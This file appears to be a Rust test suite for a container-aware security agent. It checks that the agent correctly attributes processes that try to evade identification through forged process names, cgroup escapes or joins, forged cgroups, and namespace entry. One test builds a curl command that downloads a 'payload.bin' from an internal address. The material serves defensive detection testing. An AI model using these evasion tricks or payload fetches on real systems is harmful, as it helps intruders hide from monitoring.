//! Processes that try to be another, or in another container: each is named rightly, and what was done to get
//! there is told, once.
//!
//! What containers may not do themselves is done to them from the host: to the tests' own containers, by
//! groups that the tests made.

mod place;
mod watch;

use anyhow::{Context as _, Result, ensure};
use serde_json::Value;
use tests::agent::Line;
use tests::docker::Container;
use tests::wait;
use tests::world::World;

use self::place::Group;
use self::watch::Watch;
use crate::Case;
use crate::transfer::{ALERT_MAX, ensure_container};

/// Where containers find `deed`.
const DEED: &str = "/deed/deed";

/// A gate in a container: who reads it waits for who writes it.
const GATE: &str = "/tmp/gate";

/// What containers need for what they do themselves. Docker's seccomp profile refuses clone3.
const FREE: &[&str] =
    &["--cap-add", "SYS_ADMIN", "--cap-add", "SYS_PTRACE", "--security-opt", "seccomp=unconfined"];

/// Ways to be a process that a careless reader takes for another, and whether a container can go it: to the
/// namespaced `/proc/sys` it cannot write.
const WAYS: [(&str, &str, bool); 6] = [
    ("exec", "thread", true),
    ("exec", "vfork", true),
    ("identity", "comm", true),
    ("identity", "leader_gone", true),
    ("identity", "pid_reuse", true),
    ("identity", "last_pid", false),
];

pub(crate) fn cases() -> Vec<Case> {
    let ways = WAYS.into_iter().map(|(action, way, inside)| {
        Case::new(format!("trick: {action} {way}"), move |world| is_itself(world, action, way, inside))
    });
    let others = [
        Case::new("trick: forged name, there before the agent", forged_name_before),
        Case::new("trick: first thread gone, there before the agent", leader_gone_before),
        Case::new("trick: none of it in ordinary containers", ordinary),
        Case::new("trick: container's process moved out of its cgroup", cgroup_left),
        Case::new("trick: moved out, then a transfer", transfer_from_elsewhere),
        Case::new("trick: host's process in a container's cgroup", cgroup_joined),
        Case::new("trick: hand-made cgroup with a plausible id", |world| forged(world, "cgroup_forged")),
        Case::new("trick: born in such a cgroup", |world| forged(world, "clone_into_cgroup")),
        Case::new("trick: host's process in a container's namespaces", namespace_entered),
    ];
    ways.chain(others).collect()
}

/// Every program has the pid, the parent and the container that it really has.
fn is_itself(world: &World, action: &str, way: &str, inside: bool) -> Result<String> {
    let mut watch = Watch::start(world, &format!("trick-{action}-{way}"))?;
    let truth = place::on_host(&[action, way])?;
    let told = lives(&truth).into_iter().map(|life| ensure_life(&mut watch, &life, &truth, None));
    let told = told.collect::<Result<Vec<_>>>()?;
    let mut said = vec![format!("{} on the host", told.len())];
    if let (1, Some(to)) = (told.len(), truth.get("port")) {
        ensure_connect(&mut watch, &told[0], to)?;
    }
    let mut containers = Vec::new();
    if inside {
        containers.push(place::container(world, "trick", FREE, &[DEED, action, way])?);
    }
    for container in &containers {
        let truth = place::truth(&container.run()?)?;
        let lives = lives(&truth);
        for life in &lives {
            ensure_life(&mut watch, life, &truth, Some(container))?;
        }
        said.push(format!("{} in a container", lives.len()));
    }
    watch.end_without_trick(&containers.iter().collect::<Vec<_>>())?;
    Ok(format!("right: {}", said.join(", ")))
}

/// The lives that a deed tells, or the one of the deed itself.
fn lives(truth: &Value) -> Vec<Value> {
    truth.get("lives").and_then(Value::as_array).cloned().unwrap_or_else(|| vec![truth.clone()])
}

/// The program of one life. In a container its ids are other ones than the host's: there its parent is known by
/// what it runs.
fn ensure_life(
    watch: &mut Watch,
    life: &Value,
    truth: &Value,
    inside: Option<&Container<'_>>,
) -> Result<Line> {
    let marker = life.get("marker").and_then(Value::as_str).context("a life has no marker")?;
    let line = watch.program(marker)?;
    match inside {
        Some(container) => {
            line.ensure_field("container.id", &container.id.as_str().into())?;
            line.ensure_field("process.executable", &DEED.into())?;
        }
        None => {
            ensure!(line.field("container.id").is_none(), "the host is no container: {}", line.document);
            line.ensure_field("process.pid", &life["pid"])?;
            // What posix_spawn starts is a child of the child.
            if let Some(parent) = truth.get("parent").filter(|_| truth["way"] != "vfork") {
                line.ensure_field("process.parent.pid", parent)?;
            }
        }
    }
    let parent = line.text("process.parent.executable");
    ensure!(parent.ends_with("/deed"), "its parent runs {parent:?}: {}", line.document);
    Ok(line)
}

/// Before it became the program it connected: by the same process, as the program it was then.
fn ensure_connect(watch: &mut Watch, program: &Line, port: &Value) -> Result<()> {
    let id = program.text("process.entity_id").to_owned();
    let is_it = |line: &Line| {
        line.text("event.action") == "connect"
            && line.field("destination.port") == Some(port)
            && line.text("process.entity_id") == id
    };
    let line = watch.told(ALERT_MAX, "its connect", is_it)?;
    let executable = line.text("process.executable");
    ensure!(executable.ends_with("/deed"), "it ran {executable:?}: {}", line.document);
    Ok(())
}

/// A shell whose name would break a careless reader of /proc/PID/stat: the agent finds it when it starts.
fn forged_name_before(world: &World) -> Result<String> {
    let script = format!(
        "printf ') R 1 (' > /proc/$$/comm; mkfifo {GATE}; read go < {GATE}; {DEED} noop trick-before; exit $?"
    );
    let container = place::container(world, "name", &[], &["sh", "-c", &script])?;
    container.start()?;
    place::await_gate(&container)?;
    let mut watch = Watch::start(world, "trick-name-before")?;
    let shell = container.pid()?;
    place::open_gate(&container)?;
    let line = watch.program("trick-before")?;
    line.ensure_field("process.parent.pid", &shell.into())?;
    line.ensure_field("process.parent.executable", &"/usr/bin/dash".into())?;
    line.ensure_field("container.id", &container.id.as_str().into())?;
    watch.end_without_trick(&[&container])?;
    Ok(format!("below the shell {shell}"))
}

/// A process of which /proc shows the first thread's end: the agent looks at the other ones.
fn leader_gone_before(world: &World) -> Result<String> {
    let script = format!("mkfifo {GATE}; exec {DEED} identity leader_gone --path {GATE}");
    let container = place::container(world, "leader", &[], &["sh", "-c", &script])?;
    container.start()?;
    place::await_gate(&container)?;
    let child = wait::until(ALERT_MAX, "the first thread's end", || place::ended_leader(container.pid()?))?;
    let mut watch = Watch::start(world, "trick-leader-before")?;
    place::open_gate(&container)?;
    let line = watch.told(ALERT_MAX, "its connect", |line| {
        line.text("event.action") == "connect" && line.field("process.pid") == Some(&child.into())
    })?;
    line.ensure_field("process.executable", &DEED.into())?;
    line.ensure_field("container.id", &container.id.as_str().into())?;
    watch.end_without_trick(&[&container])?;
    Ok(format!("{child} found, by {}", line.text("process.command_line")))
}

/// What runtimes and programs do every day: a container in the host's pid namespace, commands brought in,
/// namespaces of one's own.
fn ordinary(world: &World) -> Result<String> {
    let mut watch = Watch::start(world, "trick-none")?;
    let shared = [FREE, &["--pid", "host"]].concat();
    let script =
        format!("unshare -m -p -f {DEED} noop trick-none-own; {DEED} noop trick-none-all; sleep 600");
    let plain = place::container(world, "plain", FREE, &["sh", "-c", &script])?;
    let shared = place::container(world, "shared", &shared, &[DEED, "noop", "trick-none-pid"])?;
    plain.start()?;
    ensure!(shared.run()?.status.success(), "the program in the host's pid namespace failed");
    ensure!(plain.exec(&[DEED, "noop", "trick-none-exec"])?.status.success(), "docker exec failed");
    for (marker, container) in [
        ("trick-none-own", &plain),
        ("trick-none-all", &plain),
        ("trick-none-exec", &plain),
        ("trick-none-pid", &shared),
    ] {
        let line = watch.program(marker)?;
        line.ensure_field("container.id", &container.id.as_str().into())
            .with_context(|| format!("in {}", line.document))?;
    }
    watch.end_without_trick(&[&plain, &shared])?;
    Ok("host's pid namespace, docker exec, unshare".to_owned())
}

/// Runs `act` once the gate is passed by a container's process that was moved to a group of the tests.
fn moved_out<'w>(world: &'w World, name: &str, act: &str) -> Result<(Group, Container<'w>)> {
    let group = Group::new(name)?;
    let script = format!("mkfifo {GATE}; read go < {GATE}; {act}; exit $?");
    let container = place::container(world, name, &[], &["sh", "-c", &script])?;
    container.start()?;
    place::await_gate(&container)?;
    Ok((group, container))
}

fn cgroup_left(world: &World) -> Result<String> {
    let (group, container) = moved_out(world, "left", &format!("{DEED} noop trick-left"))?;
    let mut watch = Watch::start(world, "trick-left")?;
    let shell = container.pid()?;
    group.take(shell)?;
    place::open_gate(&container)?;
    let line = watch.program("trick-left")?;
    ensure_sticky(&line, &container)?;
    line.ensure_field("tidewaiter.identity.cgroup", &"host".into())?;
    line.ensure_field("process.parent.pid", &shell.into())?;
    let parent = line.text("process.parent.entity_id").to_owned();
    let told = watch.trick(&parent, "cgroup_left")?;
    ensure_sticky(&told, &container)?;
    told.ensure_field("tidewaiter.identity.cgroup", &"host".into())?;
    told.ensure_field("tidewaiter.identity.mount", &container.id.as_str().into())?;
    let all = ensure_only(watch, "cgroup_left")?;
    Ok(format!("still {}, and told as left; {all} processes", container.name))
}

/// The container it was first seen in.
fn ensure_sticky(line: &Line, container: &Container<'_>) -> Result<()> {
    line.ensure_field("container.id", &container.id.as_str().into())
        .with_context(|| format!("in {}", line.document))
}

/// Ends it: every process has one event, of this trick. How many there were.
fn ensure_only(watch: Watch, trick: &str) -> Result<usize> {
    let told = watch.end()?;
    let other = told.iter().find(|((_, told), _)| told != trick);
    let other = other.map(|(_, line)| line.document.to_string());
    ensure!(other.is_none(), "another trick is told: {other:?}");
    Ok(told.len())
}

/// The alert of a process that left its cgroup names its container, and says what its cgroup speaks for.
fn transfer_from_elsewhere(world: &World) -> Result<String> {
    let curl = "curl -sS -o /tmp/payload.bin http://10.201.0.1/download/payload.bin";
    let (group, container) = moved_out(world, "elsewhere", curl)?;
    group.take(container.pid()?)?;
    place::open_gate(&container)?;
    let what = format!("an alert about {}", container.id);
    let alert = world.agent().await_line(ALERT_MAX, &what, |line| line.is_alert_of(&container.id))?;
    ensure_container(&alert, &container)?;
    let identity = alert.field("tidewaiter.identity").context("the alert does not say what else speaks")?;
    for (witness, says) in [("cgroup", "host"), ("mount", &container.id), ("trick", "cgroup_left")] {
        alert
            .ensure_field(&format!("tidewaiter.identity.{witness}"), &says.into())
            .with_context(|| format!("{identity}"))?;
    }
    Ok(format!("alert names {}, its cgroup the host", container.name))
}

fn cgroup_joined(world: &World) -> Result<String> {
    let container = place::container(world, "joined", &[], &["sleep", "600"])?;
    container.start()?;
    let mut watch = Watch::start(world, "trick-joined")?;
    let group = place::group_of(container.pid()?)?;
    let truth = place::on_host(&["identity", "cgroup_move", "--path", &group.display().to_string()])?;
    let line = ensure_life(&mut watch, &truth, &truth, None)?;
    line.ensure_field("tidewaiter.identity.cgroup", &container.id.as_str().into())?;
    let process = line.text("process.entity_id").to_owned();
    let told = watch.trick(&process, "cgroup_joined")?;
    ensure!(told.field("container.id").is_none(), "it is the host's: {}", told.document);
    told.ensure_field("tidewaiter.identity.cgroup", &container.id.as_str().into())?;
    told.ensure_field("tidewaiter.identity.mount", &"host".into())?;
    let all = ensure_only(watch, "cgroup_joined")?;
    Ok(format!("the host's, in the cgroup of {}; {all} processes", container.name))
}

/// No runtime knows the container: it is never verified, and the process that sits there is told.
fn forged(world: &World, way: &str) -> Result<String> {
    let mut watch = Watch::start(world, &format!("trick-{way}"))?;
    let truth = place::on_host(&["identity", way])?;
    let line = watch.program(truth["marker"].as_str().unwrap_or_default())?;
    line.ensure_field("process.pid", &truth["pid"])?;
    line.ensure_field("process.parent.pid", &truth["parent"])?;
    line.ensure_field("tidewaiter.identity.cgroup", &truth["container"])?;
    let process = line.text("process.entity_id").to_owned();
    let told = watch.trick(&process, "cgroup_forged")?;
    told.ensure_field("tidewaiter.identity.cgroup", &truth["container"])?;
    for line in [&line, &told] {
        let verified = line.field("tidewaiter.container.verified");
        ensure!(verified != Some(&true.into()), "nobody can have verified it: {}", line.document);
    }
    let all = ensure_only(watch, "cgroup_forged")?;
    Ok(format!("told after {} ms, unverified; {all} processes", told.delay()?.as_millis()))
}

fn namespace_entered(world: &World) -> Result<String> {
    let container = place::container(world, "entered", &[], &["sleep", "600"])?;
    container.start()?;
    let mut watch = Watch::start(world, "trick-entered")?;
    let truth =
        place::on_host(&["identity", "namespace_enter", "--target-pid", &container.pid()?.to_string()])?;
    let line = watch.program(truth["marker"].as_str().unwrap_or_default())?;
    ensure!(line.field("container.id").is_none(), "it is the host's: {}", line.document);
    let process = line.text("process.entity_id").to_owned();
    let told = watch.trick(&process, "namespace_entered")?;
    ensure!(told.field("container.id").is_none(), "it is the host's: {}", told.document);
    told.ensure_field("tidewaiter.identity.cgroup", &"host".into())?;
    told.ensure_field("tidewaiter.identity.mount", &container.id.as_str().into())?;
    let all = ensure_only(watch, "namespace_entered")?;
    Ok(format!("the host's, in the namespaces of {}; {all} processes", container.name))
}
